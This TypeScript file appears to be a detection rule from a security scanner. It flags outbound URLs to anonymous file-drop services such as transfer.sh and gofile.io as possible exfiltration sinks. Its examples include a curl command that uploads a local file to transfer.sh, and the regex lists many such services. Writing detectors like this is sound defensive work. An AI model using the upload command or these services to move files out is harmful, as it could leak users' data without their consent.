import type { Rule } from '../../rule.js';

export const rule: Rule = {
  pattern: 'exfil_sink',
  variant: 'file-drop-url',
  threat: 'EXFIL',
  direction: 'outbound',
  severity: 'low',
  confidence: 'medium',
  group: 'sinks',
  about:
    'The address of a service that keeps files for whoever has the link, with the place that was made for one receiver, in what leaves.',
  anatomy: 'http:// or https://, the name of such a service or one below it, and a path or label of its own',
  source: 'https://transfer.sh/',
  match: [
    {
      re: /(?<=\/)(?:[\w-]+\.)*(?:transfer\.sh|file\.io|gofile\.io|catbox\.moe|temp\.sh|bashupload\.com|oshi\.at|tmpfiles\.org|uguu\.se|pixeldrain\.com|filebin\.net|x0\.at|ufile\.io|keep\.sh|anonfiles\.com)(?::\d{1,5})?\/[\w.~%/-]{4,}/i,
    },
  ],
  examples: {
    fires: ['curl --upload-file ./a https://transfer.sh/a.tgz', 'https://store1.gofile.io/uploadFile'],
    silent: ['profile.io', 'https://transfer.sh/'],
  },
};
